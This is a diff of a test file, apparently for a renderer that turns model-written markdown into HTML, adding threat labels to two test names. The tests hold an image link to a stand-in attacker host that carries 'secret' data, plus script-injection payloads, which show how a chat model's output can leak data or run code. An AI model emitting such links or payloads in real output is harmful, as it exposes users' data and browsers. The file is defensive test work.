@@ -51,7 +51,7 @@ test('a link opens in a new tab without a way back; other schemes are no link [C
   }
 })
 
-test('a picture of another host is never loaded: a link with the full host stands in its place [CHT-08]', () => {
+test('a picture of another host is never loaded: a link with the full host stands in its place: threat T11 [CHT-08]', () => {
   const page = html('![pixel](https://sub.evil.example:8443/p.gif?d=secret)')
   expect(page).not.toContain('<img')
   expect(page).toContain('sub.evil.example:8443')
@@ -69,7 +69,7 @@ test('a block of code can be copied [CHT-08]', () => {
   expect(page).toContain('let a = 1')
 })
 
-test('whatever the model writes, no script, handler, picture or other scheme comes of it', () => {
+test('whatever the model writes, no script, handler, picture or other scheme comes of it: threat T10', () => {
   const piece = fc.constantFrom(
     '<script>alert(1)</script>',
     '<img src=x onerror=alert(1)>',
